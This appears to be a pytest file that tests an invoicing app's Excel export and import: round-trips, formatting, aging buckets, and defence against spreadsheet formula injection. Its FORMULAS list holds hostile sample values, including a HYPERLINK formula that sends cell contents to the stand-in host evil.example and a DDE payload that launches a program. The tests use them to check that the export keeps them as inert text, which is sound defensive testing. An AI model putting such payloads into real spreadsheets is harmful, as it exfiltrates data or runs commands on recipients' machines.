from datetime import date
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import select

from db.models import Invoice
from db.session import session_scope
from tasks.invoices.overview import bucket_for_days as bucket
from tasks.invoices.records import upsert_invoice
from tasks.workbook.export import export_workbook
from tasks.workbook.importer import import_workbook
from tests.support.workbook_fixtures import SAMPLE, invoice_table, table_counts, write_book

TODAY = date(2024, 5, 1)


def test_exporting_and_reimporting_the_export_changes_nothing(settings, tmp_path):
    import_workbook(SAMPLE)
    with session_scope() as session:  # an invoice from a document, with fields the workbook never had
        upsert_invoice(session, "Papier Meier e.K.", "PM 77/2024", {
            "total": Decimal("-15.00"), "net": Decimal("-12.61"), "tax": Decimal("-2.39"), "currency": "CHF",
            "is_credit_note": True, "iban": "DE89370400440532013000", "reference": "PO  4711",
            "notes": "Gutschrift\nzweite Zeile", "contact_email": "Buchhaltung <buha@meier.example>",
            "status": "needs_review", "source": "document"}, actor="process-document")
    before, table = table_counts(), invoice_table()

    result = export_workbook(tmp_path / "out" / "consolidated.xlsx", today=TODAY)
    report = import_workbook(result.path)

    assert result.invoices == 12
    assert report.counts["new"] == report.counts["updated"] == report.counts["rejected"] == 0
    assert report.counts["unchanged"] == 12 and report.conflicts == []
    assert [s["status"] for s in report.sheets] == ["invoices", "invoices", "skipped", "skipped"]  # Aging, Lines
    after = table_counts()
    assert after["invoices"] == before["invoices"] and after["audit_events"] == before["audit_events"]
    assert invoice_table() == table


def test_the_export_is_typed_filtered_frozen_and_has_overdue_and_aging(settings, tmp_path):
    import_workbook(SAMPLE)
    path = tmp_path / "consolidated.xlsx"
    result = export_workbook(path, today=TODAY)

    book = load_workbook(path)
    assert book.sheetnames == ["Invoices", "Overdue", "Aging", "Lines"]
    sheet = book["Invoices"]
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["Direction", "Counterparty", "Invoice number"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    row = {h: c for h, c in zip(headers, sheet[2])}
    assert row["Total"].data_type == "n" and row["Total"].number_format == "#,##0.00"
    assert row["Due date"].is_date and row["Due date"].number_format == "yyyy-mm-dd"

    overdue = book["Overdue"]
    numbers = [r[2] for r in overdue.iter_rows(min_row=2, values_only=True)]
    # open or partly paid, due before 1 May 2024
    assert numbers == ["INV-7790", "RE-2024-002", "2024-118", "RE-2024-003", "RE-2024-004", "F-2024-002"]
    assert result.overdue == 6

    aging = book["Aging"]
    assert len(aging._charts) == 1
    table = {r[0]: r[1:] for r in aging.iter_rows(min_row=3, values_only=True) if r[0]}
    assert table["Days past due"] == ("EUR", "USD")
    assert table["current"] == (0, 0)  # F-2024-004 is due later but disputed, so not open
    assert table["1-30"] == (2400, 0)
    assert table["31-60"] == (2250.66, 0)  # 1234.56 + 298.10 + 480 (partly paid, nothing recorded) + 238
    assert table["61-90"] == (0, 89.9) and table["90+"] == (0, 0)
    assert table["All"] == (4650.66, 89.9)


def test_aging_buckets():
    assert [bucket(d) for d in (-5, 0, 1, 30, 31, 60, 61, 90, 91, 400)] == [
        "current", "current", "1-30", "1-30", "31-60", "31-60", "61-90", "61-90", "90+", "90+"]


# What a sender can put in a vendor name, an invoice number or a reference (from an e-invoice or
# a workbook cell): each would be a live formula, a link or a program in Excel if written as one.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open invoice")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def _hostile_invoices(lead: tuple[str, str] = ("\t", "\r")) -> None:
    with session_scope() as session:
        for index, name in enumerate(FORMULAS):
            upsert_invoice(session, name, FORMULAS[(index + 1) % len(FORMULAS)], {
                "total": Decimal("10.00") + index, "currency": "EUR", "status": "open",
                "due_date": date(2024, 3, 1), "reference": FORMULAS[(index + 2) % len(FORMULAS)],
                "notes": lead[index % 2] + name, "source": "document"}, actor="process-document")


def _sheet_xml(path) -> dict[str, str]:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}


def test_every_text_the_export_writes_stays_text_with_its_exact_value(settings, tmp_path):
    _hostile_invoices()
    with session_scope() as session:
        stored = {(i.counterparty, i.number, i.reference, i.notes)
                  for i in session.scalars(select(Invoice))}
    assert len(stored) == len(FORMULAS)

    path = export_workbook(tmp_path / "consolidated.xlsx", today=TODAY).path

    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name  # no formula element anywhere
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value[:1] in {"=", "+", "-", "@", "\t", "\r"}:
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)  # stays text when edited
    for title in ("Invoices", "Overdue"):
        headers = [c.value for c in book[title][1]]
        columns = [headers.index(h) for h in ("Counterparty", "Invoice number", "Reference", "Notes")]
        rows = {tuple(r[i] for i in columns) for r in book[title].iter_rows(min_row=2, values_only=True)}
        assert rows == stored, title  # read back exactly: no apostrophe added, nothing evaluated


def test_reimporting_an_export_with_formula_like_names_changes_nothing(settings, tmp_path):
    _hostile_invoices(lead=("", ""))  # the import trims text, so a leading tab would come back trimmed
    before, table = table_counts(), invoice_table()

    report = import_workbook(export_workbook(tmp_path / "consolidated.xlsx", today=TODAY).path)

    assert report.counts["unchanged"] == len(FORMULAS), report.counts
    assert report.counts["new"] == report.counts["updated"] == report.counts["rejected"] == 0
    assert table_counts()["invoices"] == before["invoices"] and invoice_table() == table


def test_the_import_still_refuses_a_live_formula_the_export_never_writes(settings, tmp_path):
    path = write_book(tmp_path / "formula.xlsx", {"Invoices": [
        ["Invoice #", "Customer", "Due", "Amount", "Currency"],
        ["=1+1", "Good Customer Ltd", date(2024, 5, 1), 100.0, "EUR"],  # openpyxl: a formula, no saved result
        ["G-2", "Good Customer Ltd", date(2024, 6, 1), 200.0, "EUR"],
    ]})
    assert "<f>" in "".join(_sheet_xml(path).values())

    report = import_workbook(path)

    assert report.counts["new"] == 1 and report.counts["rejected"] == 1
    assert "never saved" in str(report.rejected)


def test_a_control_character_an_xlsx_cannot_hold_does_not_stop_the_export(settings, tmp_path):
    with session_scope() as session:
        upsert_invoice(session, "Acme\x01 GmbH", "A\x1b-1", {"total": Decimal("5.00"), "currency": "EUR"},
                       actor="process-document")

    book = load_workbook(export_workbook(tmp_path / "consolidated.xlsx", today=TODAY).path)

    [row] = list(book["Invoices"].iter_rows(min_row=2, values_only=True))
    assert row[1:3] == ("Acme\ufffd GmbH", "A\ufffd-1")
